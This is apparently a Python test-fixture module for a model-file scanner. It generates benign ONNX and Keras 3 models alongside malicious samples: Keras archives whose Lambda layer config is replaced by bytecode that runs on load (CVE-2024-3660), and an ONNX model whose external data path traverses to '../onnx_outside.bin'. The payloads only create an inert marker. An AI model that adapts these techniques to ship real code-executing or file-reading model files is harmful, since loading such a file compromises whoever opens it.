"""ONNX and Keras 3 samples, written by the frameworks themselves (scanner-threats.md §D).

Benign: an sklearn Pipeline converted by skl2onnx, a torch module exported by
``torch.onnx.export`` (TorchScript exporter; the dynamo one needs onnxscript), and
Keras Sequential and Functional models of Dense layers saved with ``model.save``.

Malicious: ``.keras`` models whose Lambda layer's marshalled bytecode creates the
marker. Keras runs it while rebuilding the model in ``load_model(safe_mode=False)``,
before any call (CVE-2024-3660), and so would building the model here: the files are
saved with an identity lambda and the Lambda's ``function`` in ``config.json`` is then
replaced by the payload's, as ``Lambda.get_config`` serializes it (nothing is run).
And an ONNX model whose initializer reads ``../onnx_outside.bin`` through external
data (CVE-2022-25882, CVE-2024-27318); onnx 1.23 and onnxruntime 1.32 refuse that
path, so it is kept as a regression sample that the loaders do not follow.

Keras runs on the torch backend (``KERAS_BACKEND=torch``, set here if unset). Keras
and torch's exporter raise numpy and deprecation warnings while saving; they are
silenced around the writes only, as the test session turns warnings into errors.
"""

from __future__ import annotations

import io
import json
import os
import tempfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.scanning_corpus._benign import _breast_cancer, _pipeline
from tests.scanning_corpus._sample import Payload, Recipe, Sample, write_recipes

__all__ = [
    "FRAMEWORK_BENIGN",
    "FRAMEWORK_MALICIOUS",
    "ONNX_OUTSIDE",
    "write_framework_benign",
    "write_framework_malicious",
]

#: The file the traversal sample's external data points at, next to ``malicious/``.
ONNX_OUTSIDE = "onnx_outside.bin"
ONNX_OUTSIDE_BYTES = b"bastion: bytes from outside the model's folder"


def _keras() -> Any:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        import keras

    return keras


def _quietly(write: Callable[[], object]) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        write()


# --- benign ----------------------------------------------------------------------------


def _skl2onnx(path: Path) -> None:
    import numpy as np
    from skl2onnx import to_onnx

    features, _ = _breast_cancer()
    model = to_onnx(_pipeline(), features[:1].astype(np.float32))
    path.write_bytes(model.SerializeToString())


def _torch_onnx(path: Path) -> None:
    import torch

    torch.manual_seed(0)
    module = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    _quietly(lambda: torch.onnx.export(module.eval(), (torch.randn(1, 4),), path, dynamo=False))


def _keras_sequential(path: Path) -> None:
    keras = _keras()
    layers = keras.layers
    model = keras.Sequential(
        [keras.Input((4,)), layers.Dense(8, activation="relu"), layers.Dense(2)], name="mlp"
    )
    _quietly(lambda: model.save(path))


def _keras_functional(path: Path) -> None:
    keras = _keras()
    layers = keras.layers
    inputs = keras.Input((4,), name="features")
    hidden = layers.Dense(8, activation="relu")(inputs)
    model = keras.Model(inputs, [layers.Dense(2)(hidden), layers.Dense(1)(hidden)])
    _quietly(lambda: model.save(path))


@dataclass(frozen=True)
class FrameworkBenign:
    name: str
    technique: str
    loader: str
    write: Callable[[Path], object]


FRAMEWORK_BENIGN = (
    FrameworkBenign(
        "onnx_skl2onnx_pipeline.onnx",
        "sklearn Pipeline (StandardScaler, LogisticRegression) converted by skl2onnx",
        "onnx",
        _skl2onnx,
    ),
    FrameworkBenign(
        "onnx_torch_export.onnx",
        "torch MLP exported by torch.onnx.export (TorchScript exporter)",
        "onnx",
        _torch_onnx,
    ),
    FrameworkBenign(
        "keras_sequential_dense.keras",
        "Keras 3 Sequential of Dense layers, model.save",
        "keras",
        _keras_sequential,
    ),
    FrameworkBenign(
        "keras_functional_dense.keras",
        "Keras 3 Functional model, two Dense heads, model.save",
        "keras",
        _keras_functional,
    ),
)


def write_framework_benign(outdir: Path) -> list[Sample]:
    samples = []
    for item in FRAMEWORK_BENIGN:
        path = outdir / item.name
        item.write(path)
        samples.append(Sample(item.name, path, item.technique, False, item.loader))
    return samples


# --- malicious -------------------------------------------------------------------------


def _identity(x: Any) -> Any:
    return x


def _payload_function(p: Payload) -> Any:
    """The Lambda ``function`` config of a lambda that creates the marker, returning x."""
    keras = _keras()
    payload = eval(f"lambda x: ({p.python}, x)[1]")  # noqa: S307 - builds the inert payload
    return keras.layers.Lambda(payload).get_config()["function"]


def _lambdas(node: Any) -> Iterator[dict[str, Any]]:
    if isinstance(node, dict):
        if node.get("class_name") == "Lambda":
            yield node["config"]
        for value in node.values():
            yield from _lambdas(value)
    elif isinstance(node, list):
        for value in node:
            yield from _lambdas(value)


def _saved_with_payload(model: Any, p: Payload) -> bytes:
    """``model.save`` of a model with identity Lambdas, then the payload swapped in."""
    with tempfile.TemporaryDirectory() as scratch:
        saved = Path(scratch, "model.keras")
        _quietly(lambda: model.save(saved))
        with zipfile.ZipFile(saved) as archive:
            members = [(info, archive.read(info)) for info in archive.infolist()]
    buffer = io.BytesIO()
    function = _payload_function(p)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in members:
            if info.filename == "config.json":
                config = json.loads(data)
                found = list(_lambdas(config))
                if not found:
                    raise RuntimeError("no Lambda layer to carry the payload")
                for layer in found:
                    layer["function"] = function
                data = json.dumps(config).encode()
            archive.writestr(info, data)
    return buffer.getvalue()


def _keras_lambda(p: Payload) -> bytes:
    keras = _keras()
    layers = keras.layers
    model = keras.Sequential([keras.Input((4,)), layers.Dense(3), layers.Lambda(_identity)])
    return _saved_with_payload(model, p)


def _keras_nested_lambda(p: Payload) -> bytes:
    keras = _keras()
    layers = keras.layers
    inner = keras.Sequential(
        [keras.Input((3,)), layers.Dense(3), layers.Lambda(_identity)], name="inner"
    )
    inputs = keras.Input((4,))
    outputs = layers.Dense(2)(inner(layers.Dense(3)(inputs)))
    return _saved_with_payload(keras.Model(inputs, outputs), p)


def _onnx_traversal(_p: Payload) -> bytes:
    from onnx import TensorProto, helper

    tensor = TensorProto(name="w", data_type=TensorProto.UINT8, dims=[len(ONNX_OUTSIDE_BYTES)])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (
        ("location", f"../{ONNX_OUTSIDE}"),
        ("offset", "0"),
        ("length", str(len(ONNX_OUTSIDE_BYTES))),
    ):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    output = helper.make_tensor_value_info("y", TensorProto.UINT8, [len(ONNX_OUTSIDE_BYTES)])
    graph = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "g", [], [output])
    graph.initializer.append(tensor)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    return model.SerializeToString()


FRAMEWORK_MALICIOUS = (
    Recipe(
        "cve_2024_3660_keras_lambda.keras",
        "D Keras 3 Sequential with a Lambda layer whose bytecode runs on load (safe_mode=False)",
        _keras_lambda,
        "keras",
    ),
    Recipe(
        "keras_lambda_in_sequential_in_functional.keras",
        "D.34 Lambda inside a Sequential inside a Functional model",
        _keras_nested_lambda,
        "keras",
    ),
    Recipe(
        "cve_2024_27318_onnx_external_data_traversal.onnx",
        "D ONNX initializer with external data location '../onnx_outside.bin'; onnx 1.23 and"
        " onnxruntime 1.32 refuse the path, older versions read the outside file",
        _onnx_traversal,
        "onnx",
        loader_runs_payload=False,
    ),
)


def write_framework_malicious(outdir: Path, markers: Path) -> list[Sample]:
    (outdir.parent / ONNX_OUTSIDE).write_bytes(ONNX_OUTSIDE_BYTES)
    return write_recipes(FRAMEWORK_MALICIOUS, outdir, markers)
